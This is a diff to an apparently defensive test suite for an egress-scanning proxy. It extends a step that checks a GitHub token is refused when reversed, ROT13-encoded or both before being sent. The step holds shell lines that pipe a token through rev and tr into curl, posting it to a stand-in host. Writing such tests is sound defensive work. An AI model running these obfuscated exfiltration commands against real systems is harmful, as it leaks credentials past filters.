@@ -344,6 +344,39 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
     });
 
     await t.step(
+      "a token turned around for whoever receives it to turn back (`rev`, ROT13, both), in a body or a path's segment, is refused",
+      async () => {
+        const turned = await sh(
+          `printf %s '${token}' | rev | curl -sS -o /tmp/refused -w '%{http_code}' ` +
+            "--data-binary @- https://plain.fake.test/v1/rev; echo; cat /tmp/refused; echo; " +
+            `printf %s '${token}' | tr A-Za-z N-ZA-Mn-za-m | curl -sS -o /tmp/refused -w '%{http_code}' ` +
+            "--data-binary @- https://plain.fake.test/v1/rot13; echo; cat /tmp/refused; echo; " +
+            `printf %s '${token}' | rev | tr A-Za-z N-ZA-Mn-za-m | curl -sS -o /tmp/refused -w '%{http_code}' ` +
+            "--data-binary @- https://plain.fake.test/v1/both; echo; cat /tmp/refused; echo; " +
+            `curl -sS -o /dev/null -w '%{http_code}' "https://plain.fake.test/v1/p/$(printf %s '${token}' | rev)/x"`,
+        );
+        assert.match(
+          turned.stdout,
+          /^403\n.*GitHub token \(rule github-token\) in the body, reversed/,
+        );
+        assert.match(
+          turned.stdout,
+          /\n403\n.*GitHub token \(rule github-token\) in the body, in ROT13/,
+        );
+        assert.match(turned.stdout, /\n403\n.*in the body, reversed and in ROT13/);
+        assert.equal(
+          turned.stdout.match(/^403$/gm)?.length,
+          4,
+          `each is refused: ${turned.stdout}`,
+        );
+        const reversed = [...token].reverse().join("");
+        for (const path of ["/v1/rev", "/v1/rot13", "/v1/both", `/v1/p/${reversed}/x`]) {
+          assert.ok(!(await reached(path)), `nothing reached ${path}`);
+        }
+      },
+    );
+
+    await t.step(
       "a token sent in pieces, one a request, in a query or JSON field or under another name each time (also beside a counter), is refused at the last",
       async () => {
         const pieces = [token.slice(0, 12), token.slice(12, 26), token.slice(26)];
@@ -406,36 +439,6 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
       ]);
       assert.ok(entries.some((e) => e.action === "tunnel" && e.host === "pinned.fake.test"));
     });
-
-    await t.step(
-      "a token turned around for whoever receives it to turn back (`rev`, ROT13), in a body or a path's segment, is refused",
-      async () => {
-        const turned = await sh(
-          `printf %s '${token}' | rev | curl -sS -o /tmp/refused -w '%{http_code}' ` +
-            "--data-binary @- https://plain.fake.test/v1/rev; echo; cat /tmp/refused; echo; " +
-            `printf %s '${token}' | tr A-Za-z N-ZA-Mn-za-m | curl -sS -o /tmp/refused -w '%{http_code}' ` +
-            "--data-binary @- https://plain.fake.test/v1/rot13; echo; cat /tmp/refused; echo; " +
-            `curl -sS -o /dev/null -w '%{http_code}' "https://plain.fake.test/v1/p/$(printf %s '${token}' | rev)/x"`,
-        );
-        assert.match(
-          turned.stdout,
-          /^403\n.*GitHub token \(rule github-token\) in the body, reversed/,
-        );
-        assert.match(
-          turned.stdout,
-          /\n403\n.*GitHub token \(rule github-token\) in the body, in ROT13/,
-        );
-        assert.equal(
-          turned.stdout.match(/^403$/gm)?.length,
-          3,
-          `each is refused: ${turned.stdout}`,
-        );
-        const reversed = [...token].reverse().join("");
-        for (const path of ["/v1/rev", "/v1/rot13", `/v1/p/${reversed}/x`]) {
-          assert.ok(!(await reached(path)), `nothing reached ${path}`);
-        }
-      },
-    );
 
     await t.step(
       "a credential echoed in a header, a cookie or a binary body is scrubbed",
